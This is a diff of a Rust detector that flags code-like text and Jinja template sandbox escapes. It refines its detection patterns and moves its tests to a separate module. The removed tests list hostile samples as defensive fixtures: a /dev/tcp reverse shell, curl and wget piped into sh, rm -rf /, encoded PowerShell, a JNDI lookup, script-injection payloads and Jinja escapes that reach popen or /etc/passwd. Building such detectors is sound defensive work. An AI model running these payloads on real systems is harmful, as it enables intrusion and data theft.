@@ -27,13 +27,18 @@ pub fn code_like(text: &[u8]) -> Option<usize> {
     if opens_as_program(start) || is_packed_pickle(start) {
         return Some(opening);
     }
-    first(text, &CODE, &CODE_FIRST)
+    code_like_inside(text)
+}
+
+/// [`code_like`] of a later part of a text, whose start says nothing.
+pub(super) fn code_like_inside(text: &[u8]) -> Option<usize> {
+    first(text, &CODE, &CODE_STARTS)
 }
 
 /// Where a Jinja template first reaches for what leads out of its sandbox, if it does.
 #[must_use]
 pub fn template_escape(text: &[u8]) -> Option<usize> {
-    first(text, &TEMPLATE, &TEMPLATE_FIRST)
+    first(text, &TEMPLATE, &TEMPLATE_STARTS)
 }
 
 /// No pattern looks further than this many bytes.
@@ -99,10 +104,10 @@ static CODE: [Pattern; 70] = [
     exact("subprocess.check_", name, anything),
     exact("subprocess.get", name, anything),
     exact("socket.socket(", name, anything),
-    exact("!!python/", anything, anything),
+    exact("!!python/", unquoted, anything),
     // Shells.
-    exact("curl ", name, piped_into_shell),
-    exact("wget ", name, piped_into_shell),
+    exact("curl ", commanded, piped_into_shell),
+    exact("wget ", commanded, piped_into_shell),
     exact("base64 -d", name, piped_into_shell),
     exact("base64 --decode", name, piped_into_shell),
     exact("$(curl ", anything, anything),
@@ -124,15 +129,15 @@ static CODE: [Pattern; 70] = [
     exact("nc -e", name, anything),
     exact("rm -rf /", name, all_of_it),
     exact("rm -rf ~", name, all_of_it),
-    any_case("powershell -", name, anything),
-    any_case("powershell.exe", name, anything),
+    any_case("powershell -", commanded, anything),
+    any_case("powershell.exe", commanded, anything),
     any_case("cmd /c", name, anything),
-    any_case("cmd.exe", name, anything),
+    any_case("cmd.exe /", name, anything),
     any_case("invoke-expression", name, anything),
     any_case("iex(", name, argument),
     any_case(".downloadstring(", anything, anything),
     // What a page, a template or a logger of other languages would run.
-    any_case("<script", anything, tag),
+    any_case("<script", unquoted, script),
     any_case("javascript:", name, address),
     any_case("onerror=", blank, anything),
     any_case("onload=", blank, anything),
@@ -143,15 +148,16 @@ static CODE: [Pattern; 70] = [
 ];
 
 /// How an expression leaves Jinja's sandbox, and how it spells what it may not name.
-static TEMPLATE: [Pattern; 35] = [
+static TEMPLATE: [Pattern; 36] = [
     // Attributes between double underscores, whole or in pieces.
     exact("__", anything, internal),
     exact("__", quote, letter),
     exact("__", letter_before, quoted),
     exact("__", quote, quoted),
     exact(".__", anything, letter),
-    exact("_", quote, joined),
-    exact("_", joining, quoted),
+    exact("_", quote, doubled),
+    exact("_", quote, enclosed),
+    exact("_", kept, quoted),
     exact("(_=", anything, anything),
     exact(",_=", anything, anything),
     // The same underscore as an escape: Jinja's strings know Python's.
@@ -187,36 +193,49 @@ static TEMPLATE: [Pattern; 35] = [
     exact("{%", anything, loads_template),
 ];
 
-const fn firsts(patterns: &[Pattern]) -> [bool; 256] {
-    let mut table = [false; 256];
+/// For each byte, which patterns start with it: one bit each.
+type Starts = [u128; 256];
+
+const fn starts(patterns: &[Pattern]) -> Starts {
+    let mut table = [0; 256];
     let mut rest = patterns;
+    let mut bit = 1_u128;
     while let Some((pattern, others)) = rest.split_first() {
+        assert!(bit != 0, "no more than 128 patterns");
         if let Some((&byte, _)) = pattern.text.as_bytes().split_first() {
-            mark(&mut table, byte);
+            mark(&mut table, byte, bit);
             if pattern.any_case {
-                mark(&mut table, byte.to_ascii_uppercase());
+                mark(&mut table, byte.to_ascii_uppercase(), bit);
             }
         }
+        bit <<= 1;
         rest = others;
     }
     table
 }
 
-const fn mark(table: &mut [bool; 256], byte: u8) {
+const fn mark(table: &mut Starts, byte: u8, bit: u128) {
     let (_, rest) = table.split_at_mut(byte as usize);
     if let Some((place, _)) = rest.split_first_mut() {
-        *place = true;
+        *place |= bit;
     }
 }
 
-static CODE_FIRST: [bool; 256] = firsts(&CODE);
-static TEMPLATE_FIRST: [bool; 256] = firsts(&TEMPLATE);
+static CODE_STARTS: Starts = starts(&CODE);
+static TEMPLATE_STARTS: Starts = starts(&TEMPLATE);
 
 /// Where the first pattern fits.
-fn first(text: &[u8], patterns: &[Pattern], starts: &[bool; 256]) -> Option<usize> {
+fn first(text: &[u8], patterns: &[Pattern], starts: &Starts) -> Option<usize> {
     text.iter().enumerate().position(|(at, &byte)| {
-        starts.get(usize::from(byte)).is_some_and(|&starts| starts)
-            && patterns.iter().any(|pattern| pattern.fits(text, at))
+        let mut mask = starts.get(usize::from(byte)).copied().unwrap_or(0);
+        while mask != 0 {
+            let index = usize::try_from(mask.trailing_zeros()).unwrap_or(usize::MAX);
+            if patterns.get(index).is_some_and(|pattern| pattern.fits(text, at)) {
+                return true;
+            }
+            mask &= mask.wrapping_sub(1);
+        }
+        false
     })
 }
 
@@ -249,6 +268,18 @@ fn word(before: &[u8]) -> bool {
     name(before) && before.last() != Some(&b'.')
 }
 
+/// A command of its own: the text starts here, or a quote, a bracket or another command ends.
+/// In a line of its own it is what a page on how to install something says.
+fn commanded(before: &[u8]) -> bool {
+    let line = before.trim_ascii_end();
+    matches!(line.last(), None | Some(b';' | b'&' | b'|' | b'(' | b'"' | b'\''))
+}
+
+/// Not in the quotes by which prose names it.
+fn unquoted(before: &[u8]) -> bool {
+    before.last() != Some(&b'`')
+}
+
 fn dotted(before: &[u8]) -> bool {
     before.last() == Some(&b'.')
 }
@@ -278,15 +309,14 @@ fn filter(before: &[u8]) -> bool {
     before.trim_ascii_end().last() == Some(&b'|')
 }
 
-/// A quote, and before it what makes the string a piece of a longer one: an operator, an
-/// assignment, a list, a tuple.
-fn joining(before: &[u8]) -> bool {
+/// A quote, and before it what keeps the string for later: an assignment, a list, a tuple. An
+/// underscore between two other things is a separator, as in `name + '_' + index`.
+fn kept(before: &[u8]) -> bool {
     let Some((&last, before)) = before.split_last() else { return false };
-    let before = before.trim_ascii_end();
     is_quote(last)
-        && match before {
+        && match before.trim_ascii_end() {
             [.., b'=' | b'!' | b'<' | b'>', b'='] => false,
-            [.., b'~' | b'+' | b'=' | b'['] => true,
+            [.., b'=' | b'['] => true,
             [rest @ .., b'('] => !rest.last().is_some_and(|&byte| is_name(byte)),
             _ => false,
         }
@@ -352,7 +382,7 @@ fn exec_suffix(behind: &[u8]) -> bool {
 fn piped_into_shell(behind: &[u8]) -> bool {
     const SHELLS: [&[u8]; 9] =
         [b"sh", b"bash", b"zsh", b"dash", b"python", b"python3", b"perl", b"ruby", b"node"];
-    within(behind, 512).split(|&byte| byte == b'|').skip(1).any(|command| {
+    within(behind, 256).split(|&byte| byte == b'|').skip(1).take(8).any(|command| {
         let mut words = command
             .split(|byte| {
                 byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'`' | b';' | b')')
@@ -369,9 +399,23 @@ fn all_of_it(behind: &[u8]) -> bool {
     !behind.first().is_some_and(|&byte| is_name(byte) || matches!(byte, b'.' | b'/' | b'$' | b'{'))
 }
 
-fn tag(behind: &[u8]) -> bool {
-    matches!(behind.first(), Some(b'>' | b'/'))
-        || behind.first().is_some_and(u8::is_ascii_whitespace)
+/// A page's script, which has a source or does something: not a word about the tag.
+fn script(behind: &[u8]) -> bool {
+    match behind.split_first() {
+        Some((b'>', body)) => {
+            let closed = body
+                .get(..REACH)
+                .unwrap_or(body)
+                .windows(8)
+                .any(|end| end.eq_ignore_ascii_case(b"</script"));
+            !matches!(body.first(), Some(b':' | b'`'))
+                && (closed || within(body, 256).contains(&b'('))
+        }
+        Some((byte, tag)) if byte.is_ascii_whitespace() || *byte == b'/' => {
+            within(tag, 256).windows(4).any(|name| name.eq_ignore_ascii_case(b"src="))
+        }
+        _ => false,
+    }
 }
 
 fn address(behind: &[u8]) -> bool {
@@ -388,10 +432,30 @@ fn internal(behind: &[u8]) -> bool {
     })
 }
 
-/// A closing quote, and behind it what makes the string a piece of a longer one.
-fn joined(behind: &[u8]) -> bool {
+/// A closing quote, and behind it what makes two underscores of one: a factor, or another string
+/// that starts with one.
+fn doubled(behind: &[u8]) -> bool {
     let Some((&first, behind)) = behind.split_first() else { return false };
-    is_quote(first) && matches!(behind.trim_ascii_start().first(), Some(b'~' | b'+' | b'*' | b']'))
+    is_quote(first)
+        && match behind.trim_ascii_start() {
+            [b'*', ..] => true,
+            [b'~' | b'+', rest @ ..] => {
+                let rest = rest.iter().position(|&b| !b.is_ascii_whitespace() && b != b'(');
+                let rest =
+                    rest.and_then(|at| behind.trim_ascii_start().get(at.saturating_add(1)..));
+                matches!(rest, Some([quote, b'_', ..]) if is_quote(*quote))
+            }
+            _ => false,
+        }
+}
+
+/// `class_'`: the rest of a string that starts with an underscore, and ends with one.
+fn enclosed(behind: &[u8]) -> bool {
+    let end = behind.iter().take(40).position(|&byte| !is_name(byte));
+    end.is_some_and(|end| {
+        behind.get(end).is_some_and(|&byte| is_quote(byte))
+            && behind.get(..end).is_some_and(|inner| inner.len() > 1 && inner.ends_with(b"_"))
+    })
 }
 
 /// `|attr(…)`, and not a filter whose name only starts so.
@@ -478,135 +542,4 @@ fn is_packed_pickle(text: &[u8]) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    const PROGRAMS: &[&str] = &[
-        "import os\nos.system('id')",
-        "x = 1; os.system(\"id\")",
-        "from subprocess import Popen",
-        "print(1); import os; os.getcwd()",
-        "exec(\"print(1)\")",
-        "exec(base64.b64decode('cHJpbnQoMSk='))",
-        "eval (1); eval(compile(open('x').read(), 'x', 'exec'))",
-        "eval(b'1+1')",
-        "compile(text, '<s>', 'exec')",
-        "__import__('os').getpid()",
-        "getattr(__builtins__['eval'], 'x')",
-        "().__class__.__base__.__subclasses__()",
-        "subprocess.run(['id'])",
-        "subprocess.check_output('id', shell=True)",
-        "lambda: os.execvp('sh', ['sh'])",
-        "def __reduce__(self): return (print, ())",
-        "!!python/object/apply:os.system ['id']",
-        "curl -fsSL https://example.invalid/x | sh",
-        "wget -qO- example.invalid/x | sudo bash -s -- -y",
-        "echo aWQ= | base64 -d | sh",
-        "name $(curl example.invalid)",
-        "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
-        "x; rm -rf / ;",
-        "PowerShell -enc SQBFAFgA",
-        "cmd.exe /c calc",
-        "<script>alert(1)</script>",
-        "<SCRIPT src=//example.invalid>",
-        "[x](javascript:alert(1))",
-        "<img src=x onerror=alert(1)>",
-        "${jndi:ldap://example.invalid/a}",
-        "require('child_process').execSync('id')",
-        "#!/bin/sh\nid",
-        "  gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
-    ];
-
-    const DESCRIPTIONS: &[&str] = &[
-        "",
-        "pt",
-        "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/",
-        "# Model card\n```python\nimport torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')\nmodel.eval()\n```",
-        "import torch\nmodel.eval()\nprint(model(x))",
-        "This model was trained to import data and to export it. Call eval() first.",
-        "You may not use eval or exec; exec (the command) is slow. Execution(s) of eval(s).",
-        "{\"lr\": 1e-4, \"optimizer\": \"AdamW\", \"argv\": [\"train.py\", \"--eval\", \"steps\"]}",
-        "accelerate launch train.py --output_dir=out --eval_steps 100 | tee log.txt",
-        "pip install torch; python -m pip install -U transformers && huggingface-cli login",
-        "curl https://example.invalid/v1/chat -d '{\"model\": \"x\"}' | jq .",
-        "a | b | c: tables use bars. $(x, y)$ is mathematics, and ${name} is a variable.",
-        "rm -rf /tmp/cache removes the cache; the system is called os and its shell sh.",
-        "Languages: python, javascript: 12%, C. JavaScript is a language.",
-        "masterpiece, 1girl, import_quality, (eval:1.2), <lora:script:1>, description=script",
-        "a class defines __init__ and __reduce__ and keeps __globals__ to itself",
-        "system prompt: You are a helpful assistant that can run subprocess calls.",
-        "gASV is a prefix of text that goes on with blanks",
-        "compile(model, mode='max-autotune') speeds things up; re.compile('a')",
-        "ss_tag_frequency {\"img\": {\"onload\": 1, \"power shell\": 2}}",
-    ];
-
-    #[test]
-    fn programs_are_told_from_descriptions() {
-        for text in PROGRAMS {
-            assert!(code_like(text.as_bytes()).is_some(), "missed: {text}");
-        }
-        for text in DESCRIPTIONS {
-            let at = code_like(text.as_bytes());
-            assert_eq!(at, None, "false alarm: {text}");
-        }
-        assert_eq!(code_like(b"abc; os.system('id')"), Some(5));
-    }
-
-    const ESCAPES: &[&str] = &[
-        "{{ ''.__class__ }}",
-        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
-        "{{ x['__class__'] }}",
-        "{{ x|attr('name') }}",
-        "{{ x | attr ('name') }}",
-        "{{ [x]|map('attr', y)|list }}",
-        "{{ x['__cla' ~ 'ss__'] }}",
-        "{{ x['_' ~ '_class_' ~ '_'] }}",
-        "{{ x['_'*2 ~ 'class'] }}",
-        "{% set u = '_' %}{{ x[u ~ u ~ 'class' ~ u ~ u] }}",
-        "{{ x[('_','_','class')|join] }}",
-        "{{ x[['_', 'x']|join] }}",
-        "{{ x[dict(_=1)|join] }}",
-        "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
-        "{{ x['\\u005f\\u005fclass'] }}",
-        "{{ x['\\137'] }}",
-        "{{ x['\\N{LOW LINE}'] }}",
-        "{{ '%c%c'|format(95, 95) }}",
-        "{{ cycler.__init__.__globals__ }}",
-        "{{ lipsum['x'] }}",
-        "{{ joiner | string }}",
-        "{{ self._TemplateReference__context }}",
-        "{% include '/etc/passwd' %}",
-        "{%- import 'x' as y -%}",
-        "{%from 'x' import y%}",
-        "{% extends 'x' %}",
-        "{{ f.func_globals }}",
-        "{{ (g for g in x).gi_frame.f_back }}",
-        "{{ x.popen('id').read() }}",
-    ];
-
-    const TEMPLATES: &[&str] = &[
-        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('roles must alternate') }}{% endif %}{% endfor %}",
-        "{%- if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% endif %}",
-        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{% endfor %}",
-        "{%- set ns = namespace(is_first=false, output='') -%}{{ ns.output + message.content.split('</think>')[-1].lstrip('\\n') }}",
-        "{{- strftime_now('%d %b %Y') }}{{ tool | tojson(indent=4) }}",
-        "{%- macro escape_attr(value) -%}{{ value|string|replace('_', ' ')|trim }}{%- endmacro -%}{% for attr in attrs %}{{ attr[0] }}{% endfor %}",
-        "{{ name.split('_')[0] }}{{ x.replace('-', '_') }}{{ fn.get('_xtml_json_block') }}{% if x == '_' %}{% endif %}",
-        "{{ messages|map(attribute='role')|join('_') }}{{ tools|selectattr('type', 'equalto', 'function')|list|first }}",
-        "Fill in: ____ or __________. Do not import anything; include all of it, from start to end.",
-        "{# from here on #}{% set from_user = true %}{% if include_date %}{% endif %}{%- set imports = 1 %}",
-        "{{ 'Environment: ipython\\n' }}{{ joiner }}{{ '\\n\\n' }}",
-        "{% generation %}{{ content }}{% endgeneration %}{%- break %}",
-    ];
-
-    #[test]
-    fn templates_that_escape_are_told_from_honest_ones() {
-        for text in ESCAPES {
-            assert!(template_escape(text.as_bytes()).is_some(), "missed: {text}");
-        }
-        for text in TEMPLATES {
-            let at = template_escape(text.as_bytes());
-            assert_eq!(at, None, "false alarm: {text}");
-        }
-    }
-}
+mod tests;
